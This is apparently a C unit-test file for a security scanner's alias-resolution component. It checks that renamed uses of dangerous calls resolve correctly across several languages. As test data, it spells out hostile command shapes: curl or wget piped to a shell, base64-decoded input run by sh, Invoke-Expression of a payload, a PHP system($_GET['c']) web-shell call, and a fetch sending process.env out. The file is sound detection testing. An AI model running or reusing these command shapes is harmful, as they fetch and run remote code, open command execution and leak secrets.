/*
 * check_alias.c - the alias view (scanners/child/scan_alias.c) on its own:
 * the definitions each language family writes are read and chained, only
 * watched targets are kept, every use is written out and nothing else is,
 * and hostile shapes stay within the limits. The engine's use of the view
 * is tested by check_engine (alias_view); tests/data/flow (class alias)
 * measures recall.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan_alias.h"

/* The target of name (its alt-th), or NULL. */
static const char *
target(const struct alias_set *as, const char *name, unsigned alt)
{
	size_t i;

	for (i = 0; i < scan_alias_count(as); i++)
		if (strcmp(scan_alias_name(as, i), name) == 0)
			return scan_alias_target(as, i, alt);
	return NULL;
}

/* The view of line (alt 0), as a string ("" when nothing changed). */
static const char *
view(const struct alias_set *as, const char *line)
{
	static char out[4096];
	size_t k = scan_alias_line(as, 0, line, strlen(line), out,
	    sizeof(out) - 1);

	out[k] = '\0';
	return out;
}

static struct alias_set *
collect(const char *text)
{
	struct alias_set *as = scan_alias_collect(text, strlen(text));

	ck_assert_ptr_nonnull(as);
	return as;
}

START_TEST(python)
{
	struct alias_set *as = collect(
	    "import subprocess as sp, os as o\n"
	    "from os import system as run, popen\n"
	    "from subprocess import (Popen as P,\n"
	    "    check_output)\n"
	    "import urllib.request as u\n"
	    "s = os.system  # keep\n"
	    "e = eval\n"
	    "g = getattr(o, 'system')\n"
	    "m = __import__('subprocess')\n"
	    "i = importlib.import_module(\"os\")\n"
	    "b = m.call\n"
	    "env = os.environ\n"
	    "x = 1; y = sp.run\n");

	ck_assert_str_eq(target(as, "sp", 0), "subprocess");
	ck_assert_str_eq(target(as, "o", 0), "os");
	ck_assert_str_eq(target(as, "run", 0), "os.system");
	ck_assert_str_eq(target(as, "popen", 0), "os.popen");
	ck_assert_str_eq(target(as, "P", 0), "subprocess.Popen");
	ck_assert_str_eq(target(as, "check_output", 0),
	    "subprocess.check_output");
	ck_assert_str_eq(target(as, "u", 0), "urllib.request");
	ck_assert_str_eq(target(as, "s", 0), "os.system");
	ck_assert_str_eq(target(as, "e", 0), "eval");
	ck_assert_str_eq(target(as, "g", 0), "os.system");
	ck_assert_str_eq(target(as, "m", 0), "subprocess");
	ck_assert_str_eq(target(as, "i", 0), "os");
	ck_assert_str_eq(target(as, "b", 0), "subprocess.call");
	ck_assert_str_eq(target(as, "env", 0), "os.environ");
	ck_assert_str_eq(target(as, "y", 0), "subprocess.run");
	ck_assert_str_eq(view(as, "sp.Popen(c, shell=True)"),
	    "subprocess.Popen(c, shell=True)");
	ck_assert_str_eq(view(as, "P(x); e (code); u.urlopen(url)"),
	    "subprocess.Popen(x); eval (code); urllib.request.urlopen(url)");
	ck_assert_str_eq(view(as, "data = dict(env)"),
	    "data = dict(os.environ)");
	scan_alias_free(as);
}
END_TEST

START_TEST(javascript)
{
	struct alias_set *as = collect(
	    "const {exec: x, spawn} = require('child_process');\n"
	    "const cp2 = require(\"node:child_process\");\n"
	    "import * as c3 from 'child_process';\n"
	    "import def, {execSync as es} from 'child_process';\n"
	    "const ev = eval;\n"
	    "var h = require('https').get;\n"
	    "let e2 = cp2.exec\n"
	    "const { env } = process;\n"
	    "const E = globalThis['eval'];\n");

	ck_assert_str_eq(target(as, "x", 0), "child_process.exec");
	ck_assert_str_eq(target(as, "spawn", 0), "child_process.spawn");
	ck_assert_str_eq(target(as, "cp2", 0), "child_process");
	ck_assert_str_eq(target(as, "c3", 0), "child_process");
	ck_assert_str_eq(target(as, "def", 0), "child_process");
	ck_assert_str_eq(target(as, "es", 0), "child_process.execSync");
	ck_assert_str_eq(target(as, "ev", 0), "eval");
	ck_assert_str_eq(target(as, "h", 0), "https.get");
	ck_assert_str_eq(target(as, "e2", 0), "child_process.exec");
	ck_assert_str_eq(target(as, "env", 0), "process.env");
	ck_assert_str_eq(target(as, "E", 0), "globalThis.eval");
	ck_assert_str_eq(view(as, "x(cmd); es(c)"),
	    "child_process.exec(cmd); child_process.execSync(c)");
	/* f.call(this, a) and f.apply(...) call f. */
	ck_assert_str_eq(view(as, "ev.call(null, code)"), "eval(null, code)");
	ck_assert_str_eq(view(as, "await fetch(u, {body: JSON.stringify(env)})"),
	    "await fetch(u, {body: JSON.stringify(process.env)})");
	scan_alias_free(as);
}
END_TEST

START_TEST(shell_and_powershell)
{
	struct alias_set *as = collect(
	    "c=curl\n"
	    "X=\"cu\"\"rl -fsSL\"\n"
	    "S=$(which bash)\n"
	    "alias get='wget -qO-'\n"
	    "export B=/usr/bin/base64\n"
	    "Set-Alias x Invoke-Expression\n"
	    "New-Alias -Name dl -Value Invoke-WebRequest\n"
	    "$c2 = 'iex'\n"
	    "$g = Get-Command Invoke-Expression\n"
	    "N=make\n");

	ck_assert_str_eq(view(as, "$c -s http://h/i | sh"),
	    "curl -s http://h/i | sh");
	ck_assert_str_eq(view(as, "${X} http://h | $S"),
	    "curl -fsSL http://h | bash");
	ck_assert_str_eq(view(as, "get http://h | sh"),
	    "wget -qO- http://h | sh");
	ck_assert_str_eq(view(as, "echo aGk= | $B -d | sh"),
	    "echo aGk= | /usr/bin/base64 -d | sh");
	ck_assert_str_eq(view(as, "x $payload"), "Invoke-Expression $payload");
	ck_assert_str_eq(view(as, "$r = dl http://h"),
	    "$r = Invoke-WebRequest http://h");
	ck_assert_str_eq(view(as, "& $c2 $p; . $g $q"),
	    "& iex $p; . Invoke-Expression $q");
	/* A command alias only in a command's place; commands nothing
	 * watches are no aliases. */
	ck_assert_str_eq(view(as, "echo get"), "");
	ck_assert_str_eq(view(as, "$N all"), "");
	scan_alias_free(as);
}
END_TEST

START_TEST(go_ruby_php_rust)
{
	struct alias_set *as = collect(
	    "import (\n"
	    "\tex \"os/exec\"\n"
	    "\t\"fmt\"\n"
	    ")\n"
	    "import b64 \"encoding/base64\"\n"
	    "m = Kernel.method(:system)\n"
	    "n = method(:eval)\n"
	    "$f = 'system';\n"
	    "use std::process::Command as C;\n");

	ck_assert_str_eq(view(as, "ex.Command(\"sh\", \"-c\", s).Run()"),
	    "exec.Command(\"sh\", \"-c\", s).Run()");
	ck_assert_str_eq(view(as, "b64.StdEncoding.DecodeString(p)"),
	    "base64.StdEncoding.DecodeString(p)");
	ck_assert_str_eq(view(as, "m.call(cmd); n.(code)"),
	    "Kernel.system(cmd); eval(code)");
	ck_assert_str_eq(view(as, "echo $f($_GET['c']);"),
	    "echo system($_GET['c']);");
	ck_assert_str_eq(view(as, "C::new(\"sh\")"),
	    "std::process::Command::new(\"sh\")");
	ck_assert_ptr_null(target(as, "fmt", 0));
	scan_alias_free(as);
}
END_TEST

/* What is not watched is not kept; a name is not replaced where it is
 * bound, as another object's member, or as part of a longer name. */
START_TEST(only_watched_only_uses)
{
	struct alias_set *as = collect(
	    "import numpy as np\n"
	    "from os import path\n"
	    "import os.path as osp\n"
	    "const p = require('path');\n"
	    "x = foo.bar\n"
	    "y = os.system(cmd)\n"
	    "from . import sibling\n");

	ck_assert_uint_eq(scan_alias_count(as), 0);
	ck_assert_str_eq(view(as, "np.array(x)"), "");
	scan_alias_free(as);
	as = collect("P = subprocess.Popen\n");
	ck_assert_str_eq(view(as, "P = subprocess.Popen"), "");
	ck_assert_str_eq(view(as, "obj.P(x); PP(x); P2(x); {P: 1}"), "");
	ck_assert_str_eq(view(as, "a::P(x)"), "");
	ck_assert_str_eq(view(as, "f(P)"), "f(subprocess.Popen)");
	scan_alias_free(as);
}
END_TEST

/* A name given several watched targets: one view per target. */
START_TEST(alternatives)
{
	struct alias_set *as = collect(
	    "r = os.path.join\n"
	    "r = os.system\n"
	    "r = os.popen\n"
	    "q = eval\n");
	char out[64];
	size_t k;

	ck_assert_uint_eq(scan_alias_alts(as), 2);
	ck_assert_str_eq(target(as, "r", 0), "os.system");
	ck_assert_str_eq(target(as, "r", 1), "os.popen");
	k = scan_alias_line(as, 1, "r(c); q(d)", 10, out, sizeof(out));
	ck_assert_str_eq((out[k] = '\0', out), "os.popen(c); eval(d)");
	scan_alias_free(as);
}
END_TEST

START_TEST(bounds)
{
	size_t n = 2000 * 40, o = 0, i;
	char *t = malloc(n), out[8];
	struct alias_set *as;

	ck_assert_ptr_nonnull(t);
	for (i = 0; i < 2000; i++)
		o += (size_t)snprintf(t + o, n - o, "a%zu = os.system\n", i);
	as = scan_alias_collect(t, o);
	ck_assert_ptr_nonnull(as);
	ck_assert_uint_eq(scan_alias_count(as), ALIAS_MAX);
	/* A view is cut at its room. */
	ck_assert_uint_eq(scan_alias_line(as, 0, "a1(x)", 5, out, sizeof(out)),
	    sizeof(out));
	ck_assert_int_eq(memcmp(out, "os.syste", 8), 0);
	scan_alias_free(as);
	/* Names and targets past their limits are not kept. */
	memset(t, 'a', 200);
	memcpy(t + 200, " = os.system\nb = os.", 20);
	memset(t + 220, 'x', 200);
	t[420] = '\n';
	as = scan_alias_collect(t, 421);
	ck_assert_ptr_nonnull(as);
	ck_assert_uint_eq(scan_alias_count(as), 0);
	scan_alias_free(as);
	/* NUL bytes in a shell word: dash drops them (`c=cu<NUL>rl` is
	 * c=curl); no name or target keeps one (found by fuzz_alias: a target
	 * "<NUL>.../curl" made its text an empty string). */
	{
		static const char nul[] = "nvc=\0\0\0/usr/bin/curl\nc=cu\0rl\n"
		    "q=\"wg\0et\"\n";
		size_t k;

		as = scan_alias_collect(nul, sizeof(nul) - 1);
		ck_assert_ptr_nonnull(as);
		ck_assert_str_eq(target(as, "nvc", 0), "/usr/bin/curl");
		ck_assert_str_eq(target(as, "c", 0), "curl");
		ck_assert_str_eq(target(as, "q", 0), "wget");
		for (k = 0; k < scan_alias_count(as); k++)
			ck_assert_uint_gt(strlen(scan_alias_target(as, k, 0)), 0);
		scan_alias_free(as);
	}
	/* Open blocks, lone quotes, brackets: nothing crashes. */
	as = collect("from os import (\nimport (\n\"'`{{{[\n$(\nalias =\n"
	    "Set-Alias\nconst {a, b: = require(\nx = getattr(\n");
	scan_alias_free(as);
	free(t);
}
END_TEST

/*
 * A block (Go's `import (`, Python's `from X import (`) holds only its
 * entries: text that merely looks like its opening (a JavaScript dynamic
 * import, a comment) must not make the rest of the file entries of a
 * block, or a definition after it goes unread.
 */
START_TEST(blocks_end_where_their_entries_end)
{
	struct alias_set *as = collect(
	    "import('./plugin.js' + name);\n"
	    "const f = eval;\n"
	    "/*\n"
	    "from os import (\n"
	    "*/\n"
	    "import subprocess as sp\n"
	    "// import (\n"
	    "const { exec: run } = require('child_process');\n");

	ck_assert_str_eq(target(as, "f", 0), "eval");
	ck_assert_str_eq(target(as, "sp", 0), "subprocess");
	ck_assert_str_eq(target(as, "run", 0), "child_process.exec");
	scan_alias_free(as);
	/* Real blocks still work, with blank lines and comments inside. */
	as = collect(
	    "import (\n"
	    "\t// tools\n"
	    "\n"
	    "\tex \"os/exec\"\n"
	    "\t_ \"embed\"\n"
	    "\t. \"strings\"\n"
	    ")\n"
	    "from subprocess import (\n"
	    "    Popen as P,  # spawn\n"
	    "\n"
	    "    run,\n"
	    ")\n"
	    "x = 1\n");
	ck_assert_str_eq(target(as, "ex", 0), "exec");
	ck_assert_str_eq(target(as, "P", 0), "subprocess.Popen");
	ck_assert_str_eq(target(as, "run", 0), "subprocess.run");
	scan_alias_free(as);
}
END_TEST

/* The lists are searched by halves: each end of each list and names in
 * between are found (commands in any case), near misses are not. */
START_TEST(lists_searched_by_halves)
{
	static const char *const kept[][2] = {
		{"a=add-type", "add-type"}, {"a=ZSH", "ZSH"},
		{"a=Invoke-Expression", "Invoke-Expression"},
		{"a=python3", "python3"}, {"a=CuRl", "CuRl"},
		{"$a = 'Function'", "Function"}, {"$a = 'vars'", "vars"},
		{"$a = 'system'", "system"},
	};
	static const char *const dropped[] = {
		"a=add-typ", "a=zsh2", "a=Invoke-Expressio", "a=python4",
		"a=curlx", "$a = 'function'", "$a = 'varsx'", "$a = 'Vars'",
		"a=cu", "$a = 'aaa'", "$a = 'zzz'",
	};
	size_t i;

	for (i = 0; i < sizeof(kept) / sizeof(kept[0]); i++) {
		struct alias_set *as = collect(kept[i][0]);

		ck_assert_msg(scan_alias_count(as) > 0 &&
		    strcmp(scan_alias_target(as, 0, 0), kept[i][1]) == 0,
		    "%s: not kept", kept[i][0]);
		scan_alias_free(as);
	}
	for (i = 0; i < sizeof(dropped) / sizeof(dropped[0]); i++) {
		struct alias_set *as = collect(dropped[i]);

		ck_assert_msg(scan_alias_count(as) == 0, "%s: kept",
		    dropped[i]);
		scan_alias_free(as);
	}
}
END_TEST

/*
 * The reader finds lines, `=` and `;` 16 bytes at a time and a line's
 * first byte past its blanks 16 at a time too: a definition is read
 * wherever its line starts and however far its blanks (tabs and spaces)
 * reach, across blocks and into the text's tail.
 */
START_TEST(lines_across_blocks)
{
	static const char *const defs[] = {"from os import system as s",
	    "import subprocess as sp", "alias k=curl", "Set-Alias k iex",
	    "u = urllib.request"};
	char t[512];
	size_t pad, ind, d, o, k;

	for (d = 0; d < sizeof(defs) / sizeof(defs[0]); d++)
		for (pad = 0; pad < 140; pad += 3)
			for (ind = 0; ind < 80; ind += 7) {
				struct alias_set *as;

				o = 0;
				/* a line of pad bytes, then the definition after
				 * ind blanks (tabs and spaces), then a line */
				for (k = 0; k < pad; k++)
					t[o++] = 'x';
				t[o++] = '\n';
				for (k = 0; k < ind; k++)
					t[o++] = k % 3 ? ' ' : '\t';
				memcpy(t + o, defs[d], strlen(defs[d]));
				o += strlen(defs[d]);
				memcpy(t + o, "\nok\n", 4);
				o += 4;
				as = scan_alias_collect(t, o);
				ck_assert_ptr_nonnull(as);
				ck_assert_msg(scan_alias_count(as) == 1,
				    "%s: pad %zu indent %zu", defs[d], pad, ind);
				scan_alias_free(as);
			}
}
END_TEST

START_TEST(lists_in_order)
{
	ck_assert_int_eq(scan_alias_lists_ok(), 1);
}
END_TEST

static Suite *
alias_suite(void)
{
	Suite *s = suite_create("alias");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, python);
	tcase_add_test(tc, javascript);
	tcase_add_test(tc, shell_and_powershell);
	tcase_add_test(tc, go_ruby_php_rust);
	tcase_add_test(tc, only_watched_only_uses);
	tcase_add_test(tc, alternatives);
	tcase_add_test(tc, bounds);
	tcase_add_test(tc, blocks_end_where_their_entries_end);
	tcase_add_test(tc, lists_in_order);
	tcase_add_test(tc, lines_across_blocks);
	tcase_add_test(tc, lists_searched_by_halves);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(alias_suite());
	int nf;

	srunner_run_all(sr, CK_NORMAL);
	nf = srunner_ntests_failed(sr);
	srunner_free(sr);
	return nf == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
